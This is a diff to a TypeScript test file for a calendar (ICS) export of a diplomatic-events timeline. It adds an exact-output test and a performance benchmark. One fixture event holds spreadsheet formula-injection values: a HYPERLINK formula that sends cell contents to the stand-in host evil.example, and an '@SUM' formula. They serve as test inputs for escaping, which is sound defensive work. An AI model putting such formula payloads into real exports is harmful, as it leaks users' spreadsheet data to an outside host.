@@ -14,6 +14,7 @@ import {
 } from './tricky-events.fixture';
 import { unfoldIcsLines } from './fold-ics-lines';
 import { unescapeText, vevents } from './ics-test-helpers';
+import { generateEvents } from '../../../../scripts/lib/synthetic/generate-events';
 
 const stamp = new Date(Date.UTC(2026, 10, 27, 12, 0, 0));
 const permalink = (id: string) => `https://example.org/timeline/#/event/${id}`;
@@ -138,7 +139,7 @@ describe('eventsToIcs', () => {
     expect(unescapeText(bare?.get('DESCRIPTION') ?? '')).not.toContain('Diplomatic Timeline:');
   });
 
-  it('turns a lone CR into a line break and drops other control characters, which `ics` passes through', () => {
+  it('turns a lone CR into a line break and drops other control characters', () => {
     const result = eventsToIcs([{ ...istanbul, summary: 'a\rb\u0007c\u0000d\te' }], { stamp });
     expect(result.text).not.toMatch(/\r(?!\n)|(?![\t\r\n])\p{Cc}/u);
     const e = byUid(result.text).get(`${istanbul.id}@diplomatic-timeline`);
@@ -210,3 +211,95 @@ describe('eventsToIcs and time zones', () => {
     expect(new Set(outputs).size).toBe(1);
   });
 });
+
+describe('eventsToIcs, written line by line', () => {
+  it('writes the file the `ics` package wrote, to the octet', () => {
+    // The whole text of two entries as the export wrote it while it went through `ics` (3.12): header,
+    // calendar description, property order, escapes and folds.
+    const { text } = eventsToIcs([istanbul, formula], {
+      stamp,
+      permalink,
+      vocabulary,
+      datasetVersion: '2026.11.27',
+      view: { description: 'Kind: Summit', address: 'https://example.org/timeline/?kind=summit' },
+    });
+    expect(text.split('\r\n')).toEqual([
+      'BEGIN:VCALENDAR',
+      'VERSION:2.0',
+      'CALSCALE:GREGORIAN',
+      'PRODID:-//Diplomatic Timeline//Export//EN',
+      'METHOD:PUBLISH',
+      'X-WR-CALNAME:Diplomatic Timeline',
+      'X-PUBLISHED-TTL:PT1H',
+      'X-WR-CALDESC:Diplomatic Timeline\\, dataset version 2026.11.27. View: Kind: ',
+      ' Summit. https://example.org/timeline/?kind=summit',
+      'BEGIN:VEVENT',
+      'UID:2025-05-16-istanbul-talks-round-1@diplomatic-timeline',
+      'SUMMARY:Переговоры в Стамбуле\\, раунд 1\\; "перв',
+      ' ый"',
+      'DTSTAMP:20261127T120000Z',
+      'DTSTART;VALUE=DATE:20250516',
+      'DTEND;VALUE=DATE:20250517',
+      'DESCRIPTION:Delegations met at Dolmabahçe Sarayı\\, İstanbul\\; they agree',
+      ' d a "1\\,000-for-1\\,000" exchange.\\nSecond line\\, with a backslash \\\\ and a',
+      '  tab\there.\\nThird line after CRLF.\\n\\nSources:\\nHürriyet Daily News: http',
+      ' s://www.hurriyetdailynews.com/istanbul-talks-209262\\nЦензор.НЕТ: ',
+      ' https://censor.net/ru/news/3552673/peregovory-v-stambule\\n\\nIn the Diploma',
+      ' tic Timeline\\, dataset version 2026.11.27: https://example.org/timeline/#/',
+      ' event/2025-05-16-istanbul-talks-round-1',
+      'URL:https://example.org/timeline/#/event/2025-05-16-istanbul-talks-round-1',
+      'LOCATION:Dolmabahçe Sarayı\\, İstanbul\\, Türkiye',
+      'STATUS:CONFIRMED',
+      'CATEGORIES:Negotiation round',
+      'X-MICROSOFT-CDO-BUSYSTATUS:FREE',
+      'TRANSP:TRANSPARENT',
+      'END:VEVENT',
+      'BEGIN:VEVENT',
+      'UID:2025-05-30-formula-test@diplomatic-timeline',
+      'SUMMARY:=HYPERLINK("http://evil.example/?leak="&A1\\,"Click")',
+      'DTSTAMP:20261127T120000Z',
+      'DTSTART;VALUE=DATE:20250530',
+      'DTEND;VALUE=DATE:20250603',
+      'DESCRIPTION:@SUM(A1:A9)\\nstill the same cell\\n\\nSources:\\nExample: https://',
+      ' example.org/a\\n\\nIn the Diplomatic Timeline\\, dataset version 2026.11.27: ',
+      ' https://example.org/timeline/#/event/2025-05-30-formula-test',
+      'URL:https://example.org/timeline/#/event/2025-05-30-formula-test',
+      'STATUS:CONFIRMED',
+      'CATEGORIES:Statement',
+      'X-MICROSOFT-CDO-BUSYSTATUS:FREE',
+      'TRANSP:TRANSPARENT',
+      'END:VEVENT',
+      'END:VCALENDAR',
+      '',
+    ]);
+  });
+
+  it('writes a calendar of thousands of events at about the cost of serialising them', () => {
+    // Through `ics`, each entry was checked against a schema and folded a grapheme at a time: 10,000
+    // events took 14 s in Chromium, the page frozen throughout, and 50,000 over a minute; over a hundred
+    // times what JSON.stringify takes for the same events, where writing the lines takes under ten times.
+    // Measured against JSON.stringify on the same machine, the bound holds on a busy one too.
+    const events = generateEvents(6000, 3);
+    // Each at its best of three, taken in turns, so that a moment of a busy machine falls on both alike.
+    let [yardstick, took, written] = [Infinity, Infinity, ''];
+    for (let round = 0; round < 3; round++) {
+      yardstick = Math.min(
+        yardstick,
+        timed(() => JSON.stringify(events)),
+      );
+      took = Math.min(
+        took,
+        timed(() => (written = eventsToIcs(events, { stamp, permalink, vocabulary }).text)),
+      );
+    }
+    expect(took / yardstick, `${took.toFixed(0)} ms against ${yardstick.toFixed(0)} ms`).toBeLessThan(50);
+    expect(vevents(written).length).toBeGreaterThan(5000);
+  });
+});
+
+/** How long `work` takes, in milliseconds. */
+function timed(work: () => unknown): number {
+  const started = performance.now();
+  work();
+  return performance.now() - started;
+}
